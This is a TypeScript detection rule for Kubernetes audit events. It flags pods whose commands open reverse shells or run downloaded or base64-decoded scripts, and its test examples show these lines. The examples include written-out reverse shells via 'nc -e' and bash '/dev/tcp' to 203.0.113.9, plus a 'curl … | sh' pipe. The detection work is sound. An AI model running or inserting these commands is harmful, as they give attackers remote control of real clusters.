import { containerCommandsOf, type Trait, traitsOf } from '../../commands/command.ts';
import type { AuditEvent } from '../../events/event.ts';
import type { Container } from '../../kubernetes/workload.ts';
import type { JsonObject } from '../../primitives/json.ts';
import { defineDetection } from '../../sdk/detection.ts';
import { alice, bob, createPod, deniedPod, patch, pipeline, pod, workload, writeWorkload } from '../../sdk/examples.ts';
import { said } from '../../sdk/phrases.ts';
import { CONTAINER_WRITES, nameOfRequested, requestedContainers } from '../../sdk/pod-requests.ts';

/** The worst first. */
const WANTED: readonly Trait[] = ['reverse shell', 'decoded script', 'downloaded script'];

const traitsOfContainer = ({ raw }: Container): readonly Trait[] =>
  containerCommandsOf(raw).flatMap((command) => [...traitsOf(command)]);

const attackIn = (event: AuditEvent) => {
  const traits = new Set(requestedContainers(event).flatMap(traitsOfContainer));
  const found = WANTED.filter((trait) => traits.has(trait));
  return found.length > 0 && { worst: found[0], attack: `a ${found.join(', a ')}`, workload: nameOfRequested(event) };
};

export default defineDetection({
  id: 'pod-with-attack-command',
  title: 'Container that starts with a reverse shell or a downloaded script',
  description:
    'The command, the arguments, a hook or a probe of a container opens a reverse shell, or runs a script that it downloads or decodes from base64. An attacker gets a foothold in the cluster in this way, again at every restart of the pod.',
  tactic: 'execution',
  techniques: ['T1059'],
  impact: 80,
  confidence: 70,
  denied: { confidence: 50 },
  type: 'TTP',
  falsePositives:
    'Images that install themselves with `curl … | sh` when they start. Build them once instead, or suppress the workload.',
  triage:
    'Read the command in the specification of the workload: kubectl -n <namespace> get <kind> <name> -o yaml. Block the address in it, look for other pods that connect to it, and delete the workload.',
  references: [
    'https://attack.mitre.org/techniques/T1059/',
    'https://cloud.google.com/security-command-center/docs/concepts-event-threat-detection-overview',
  ],
  related: [
    'google:Execution: Kubernetes Pod Created with Potential Reverse Shell Arguments',
    'guardduty:Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed',
  ],
  audit: CONTAINER_WRITES,
  find: attackIn,
  // There is no honest reason to open a reverse shell.
  weight: ({ worst }) => (worst === 'reverse shell' ? { confidence: 90 } : {}),
  entities: (found) => ({ workload: found.workload }),
  principal: false,
  summary: (found, event) => said(event, 'run', `${found.workload} with ${found.attack}`),
});

const starting = (container: JsonObject) => ({
  containers: [{ name: 'main', image: 'nginx:1.27', args: ['-g', 'daemon off;'] }],
  initContainers: [{ name: 'x', image: 'busybox', ...container }],
});
const podStarting = (container: JsonObject) => createPod(alice, pod(starting(container)));

export const examples = () => ({
  fires: {
    'alice ran pod default/web with a reverse shell': podStarting({
      command: ['nc', '-e', '/bin/sh', '203.0.113.9', '4444'],
    }),
    'deploy-pipeline ran cronjob default/web with a downloaded script': writeWorkload(
      pipeline(),
      workload('CronJob', starting({ args: ['curl -fsSL https://example.org/x.sh | sh'] })),
      { verb: 'update' },
    ),
    'bob ran deployment default/web with a decoded script': patch(
      'deployments.apps',
      [
        {
          op: 'add',
          path: '/spec/template/spec/containers/0/lifecycle',
          value: { postStart: { exec: { command: ['sh', '-c', 'eval "$(echo aWQgPiAvdG1wL3gK | base64 -d)"'] } } },
        },
      ],
      { by: bob, namespace: 'default', response: workload('Deployment', {}) },
    ),
    'mallory was denied running pod default/web with a reverse shell': deniedPod(
      pod(starting({ command: ['bash'], args: ['-c', 'exec 3<>/dev/tcp/203.0.113.9/1; sh <&3 >&3'] })),
    ),
  },
  silent: {
    'an init container that fetches a file': podStarting({
      command: ['sh', '-c', 'wget -O /work/rules.json https://example.org/rules.json'],
    }),
    'an init container that waits for a port': podStarting({
      command: ['sh', '-c', 'until nc -z db 5432; do sleep 1; done'],
    }),
    'base64 that is written to a file': podStarting({
      args: ['sh', '-c', 'echo $CA | base64 -d > /certs/ca.crt && exec server'],
    }),
    'a patch that leaves the command as it was': patch(
      'deployments.apps',
      { metadata: { labels: { team: 'a' } } },
      {
        namespace: 'default',
        response: workload('Deployment', starting({ args: ['curl https://example.org/x | sh'] })),
      },
    ),
    'a name is no command': createPod(alice, pod({}, { name: 'reverse-shell', labels: { run: 'curl-pipe-sh' } })),
  },
});
